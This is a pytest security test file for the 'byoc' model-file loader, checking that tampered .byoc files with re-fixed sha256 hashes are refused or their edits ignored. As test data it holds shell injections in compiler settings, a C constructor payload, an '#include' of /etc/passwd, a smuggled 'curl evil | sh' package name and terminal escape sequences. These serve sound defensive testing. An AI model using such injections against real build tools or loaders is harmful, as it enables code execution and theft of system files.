"""A ``.byoc`` file is data: loading one never runs code its author chose (docs/format.md,
"Threat model"). Each test edits a good file as an attacker would, fixing every sha256 the
file records, and checks that loading refuses it or ignores the edit, runs nothing, and writes
nothing but byoc's cache."""

from __future__ import annotations

import hashlib
import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import byoc
import byoc.reader
import numpy as np
import onnxruntime as ort
import pytest
from byoc import native
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from .helpers import available_backends, compile_on, mixed_model

pytestmark = pytest.mark.skipif(
    "ccompiler" not in available_backends(), reason="ccompiler not available"
)
X = np.linspace(-1, 1, 12, dtype=np.float32).reshape(3, 4)


@pytest.fixture(scope="module")
def good(tmp_path_factory):
    path = tmp_path_factory.mktemp("good") / "m.byoc"
    compiled = compile_on("ccompiler")
    compiled.save(path)
    return path, compiled.run({"x": X})["t"]


def edited(src: Path, dst: Path, manifest=None, member=None) -> Path:
    """A copy of ``src`` whose manifest (``manifest(m)`` edits it) and ccompiler member
    (``member(bytes) -> bytes``) are changed, every sha256 and size fixed up to match."""
    with zipfile.ZipFile(src) as zin:
        m = json.loads(zin.read("manifest.json"))
        members = {i.filename: zin.read(i) for i in zin.infolist() if i.filename != "manifest.json"}
    unit = next(u for u in m["units"] if u["backend"] == "ccompiler")
    if member is not None:
        data = member(members[unit["member"]])
        members[unit["member"]] = data
        unit["sha256"], unit["size"] = hashlib.sha256(data).hexdigest(), len(data)
    if manifest is not None:
        manifest(m)
    with zipfile.ZipFile(dst, "w") as zout:
        zout.writestr("manifest.json", json.dumps(m))
        for name, data in members.items():
            zout.writestr(name, data)
    return dst


def artifact_edit(change):
    """A ``member`` edit of the ccompiler artifact: ``change(header, source, library)``
    returns new ones; the artifact is packed again with matching hashes."""
    from byoc_ccompiler.artifact import MAGIC

    def edit(data: bytes) -> bytes:
        header, source, library = native.unpack(data, MAGIC, "test")
        header, source, library = change(header, source, library)
        return native.pack(MAGIC, header, source, library)

    return edit


def config_edit(**values):
    def edit(m):
        m["config"]["ccompiler"].update(values)

    return edit


@pytest.fixture
def mark(tmp_path, monkeypatch):
    """A file an attack would create; byoc's cache goes to a fresh directory of its own."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    return tmp_path / "pwned"


@pytest.mark.parametrize(
    "settings_",
    [
        {"cc": "sh -c 'touch {mark}' #", "load_library": False},
        {"cflags": ["-wrapper", "/bin/sh,-c,touch {mark}"], "load_library": False},
        {"cache_dir": "{mark}"},
    ],
)
def test_a_manifest_with_toolchain_or_directory_settings_is_refused(good, mark, settings_):
    values = {k: v.format(mark=mark) if isinstance(v, str) else v for k, v in settings_.items()}
    if "cflags" in values:
        values["cflags"] = [f.format(mark=mark) for f in values["cflags"]]
    bad = edited(good[0], mark.parent / "bad.byoc", manifest=config_edit(**values))
    with pytest.raises(byoc.ArtifactError, match="a setting of the machine that loads the file"):
        byoc.load(bad)
    assert not mark.exists()


def test_a_file_of_format_1_has_its_toolchain_settings_dropped(good, mark):
    def old(m):
        m["format_version"] = 1
        m["config"]["ccompiler"].update(cc=f"sh -c 'touch {mark}' #", load_library=False)

    loaded = byoc.load(edited(good[0], mark.parent / "old.byoc", manifest=old))
    np.testing.assert_array_equal(loaded.run({"x": X})["t"], good[1])
    assert not mark.exists()


CONSTRUCTOR = (
    "\n#include <stdio.h>\n__attribute__((constructor)) static void pwn(void) "
    '{{ FILE *f = fopen("{mark}", "w"); if (f) fclose(f); }}\n'
)


@pytest.mark.parametrize("with_library", [False, True])
def test_c_source_that_is_not_ccompilers_own_output_is_refused(good, mark, with_library):
    def change(header, source, library):
        return header, source + CONSTRUCTOR.format(mark=mark), library if with_library else None

    bad = edited(good[0], mark.parent / "src.byoc", member=artifact_edit(change))
    with pytest.raises(byoc.ArtifactError, match="not what this byoc-ccompiler generates"):
        byoc.load(bad)
    assert not mark.exists()


def test_an_include_of_a_file_outside_the_artifact_is_never_compiled(good, mark):
    def change(header, source, library):
        return header, '#include "/etc/passwd"\n' + source, None

    bad = edited(good[0], mark.parent / "inc.byoc", member=artifact_edit(change))
    with pytest.raises(byoc.ArtifactError) as err:
        byoc.load(bad)
    assert "root:" not in str(err.value)


def evil_library(source: str, symbol: str, mark: Path, cache: Path) -> native.Library:
    """The partition's own code plus a constructor, compiled as a library could be shipped."""
    toolchain = native.probe(native.default_compiler("c"), None)
    assert not isinstance(toolchain, str)
    cdef = f"int {symbol}(void *const *args);"
    evil = source + CONSTRUCTOR.format(mark=mark)
    return native.build(evil, toolchain, cdef, "ccompiler", cache=str(cache))


def test_a_carried_library_runs_only_when_trusted(good, mark, tmp_path):
    """Its sha256 matches (the attacker wrote both): untrusted, it is never loaded and the
    partition is built from the regenerated source; trusted, it is what the user asked for."""

    def change(header, source, library):
        library = evil_library(source, header["symbol"], mark, tmp_path / "evil")
        return header, source, library

    bad = edited(good[0], tmp_path / "lib.byoc", member=artifact_edit(change))
    loaded = byoc.load(bad)
    np.testing.assert_array_equal(loaded.run({"x": X})["t"], good[1])
    assert not mark.exists()
    trusted = byoc.load(bad, trust_native=True)
    np.testing.assert_array_equal(trusted.run({"x": X})["t"], good[1])
    assert mark.exists()  # the carried library ran: only because the user trusted it


def test_without_a_compiler_a_trusted_file_runs_and_an_untrusted_one_says_both_ways_out(
    good, tmp_path, monkeypatch
):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "empty-cache"))  # nothing built here
    no_cc = {"backend": {"ccompiler": {"cc": str(tmp_path / "no-such-cc")}}}
    trusted = byoc.load(good[0], config=no_cc, trust_native=True)
    np.testing.assert_array_equal(trusted.run({"x": X})["t"], good[1])
    with pytest.raises(byoc.BackendError) as err:
        byoc.load(good[0], config=no_cc)
    assert "install a C compiler" in str(err.value) and "trust_native=True" in str(err.value)


def test_the_install_hint_names_only_a_distribution(good, tmp_path):
    def rename(m):
        unit = next(u for u in m["units"] if u["backend"] == "ccompiler")
        unit["backend"] = "nosuch"
        m["config"]["nosuch"] = m["config"].pop("ccompiler")
        m["backends"].append(
            {"name": "nosuch", "distribution": "byoc-x && curl evil | sh", "version": "1"}
        )

    bad = edited(good[0], tmp_path / "hint.byoc", manifest=rename)
    words = "'backends[1].distribution' is not a distribution name: 'byoc-x && curl evil | sh'"
    for read in (byoc.load, byoc.reader.inspect):  # refused as the manifest is read
        with pytest.raises(byoc.ArtifactError, match=re.escape(words)) as err:
            read(bad)
        assert "pip install" not in str(err.value)


def test_names_with_control_characters_are_refused(good, tmp_path):
    def escape(m):
        m["units"][0]["name"] = "unit\x1b[2J\x1b[31mgotcha"

    with pytest.raises(byoc.ArtifactError, match="control characters"):
        byoc.load(edited(good[0], tmp_path / "esc.byoc", manifest=escape))


@settings(max_examples=40, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(
    key=st.sampled_from(["cc", "cflags", "cache_dir", "load_library", "fuse", "omp_min_elements",
                         "enabled", "ops", "nosuch"]),
    value=st.one_of(st.none(), st.booleans(), st.integers(-5, 1 << 40), st.text(max_size=20),
                    st.lists(st.text(max_size=8), max_size=3)),
)  # fmt: skip
def test_any_config_value_in_a_manifest_loads_or_is_an_artifact_error(
    good, tmp_path_factory, key, value
):
    bad = edited(good[0], tmp_path_factory.mktemp("fuzz") / "f.byoc", config_edit(**{key: value}))
    try:
        loaded = byoc.load(bad)
    except byoc.ArtifactError:
        return
    assert key not in ("cc", "cflags", "cache_dir", "load_library")  # never carried
    loaded.run({"x": X})


def test_inspect_tells_what_a_file_holds_without_loading_it(good, tmp_path):
    done = subprocess.run(
        [sys.executable, "-m", "byoc.cli", "inspect", str(good[0]), "--json"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    info = json.loads(done.stdout)
    assert info["runs_here"] and info["same_host"] and info["format_version"] == 2
    assert {b["name"] for b in info["backends"]} >= {"ccompiler"}
    assert info["stamp"]["host"] == native.host_tag()
    assert "trust_native" in info["native_code"]
    plain = byoc.compile(mixed_model(), {"backends": []}).save(tmp_path / "plain.byoc")
    text = subprocess.run(
        [sys.executable, "-m", "byoc.cli", "inspect", str(plain)],
        capture_output=True,
        text=True,
        timeout=120,
    ).stdout
    ort_version = ort.__version__  # the fallback's version, not byoc's
    assert f"backend onnxruntime (onnxruntime {ort_version}; here: {ort_version})" in text
